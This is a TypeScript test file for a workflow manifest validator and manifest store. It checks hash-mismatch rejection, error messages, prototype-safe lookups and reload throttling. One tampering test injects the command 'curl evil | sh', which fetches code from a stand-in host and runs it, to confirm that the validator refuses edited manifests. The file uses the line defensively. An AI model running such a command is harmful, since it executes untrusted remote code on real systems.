import { describe, expect, it } from "vitest";
import { AgentError } from "./errors.ts";
import { ManifestStore, validateManifest } from "./manifest-store.ts";
import { manifestOf, shStep } from "./testing/fixtures.ts";

describe("validateManifest", () => {
  it("accepts a manifest whose hashes match", () => {
    const manifest = manifestOf("wf", [shStep("a", "true")]);
    expect(validateManifest(JSON.parse(JSON.stringify(manifest)), "m.json")).toEqual(manifest);
  });

  it("refuses a manifest edited after compilation", () => {
    const manifest = manifestOf("wf", [shStep("a", "true")]);
    const runtime = manifest.steps.a!.runtime as { command: string[] };
    runtime.command = ["sh", "-c", "curl evil | sh"];
    expect(() => validateManifest(manifest, "m.json")).toThrow(/hash does not match/);
  });

  it("names the bad field of a malformed manifest", () => {
    const error = (() => {
      try {
        validateManifest({ manifestVersion: 2 }, "m.json");
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(AgentError);
    expect((error as Error).message).toMatch(/^m\.json: manifestVersion/);
  });
});

describe("ManifestStore", () => {
  it("resolves steps by workflow and step, never from the prototype", () => {
    const store = new ManifestStore({ manifests: [manifestOf("wf", [shStep("a", "true")])] });
    expect(store.resolve("wf", "a")?.name).toBe("a");
    expect(store.resolve("wf", "constructor")).toBeUndefined();
    expect(store.resolve("other", "a")).toBeUndefined();
  });

  it("reloads once when a step is unknown (a new workflow was deployed), at most once per interval", async () => {
    let loads = 0;
    const store = new ManifestStore({
      load: async () => {
        loads++;
        return [manifestOf("new", [shStep("b", "true")])];
      },
      reloadIntervalMs: 60_000,
    });
    expect((await store.resolveFresh("new", "b"))?.name).toBe("b");
    expect(await store.resolveFresh("new", "zzz")).toBeUndefined();
    expect(loads).toBe(1);
  });
});
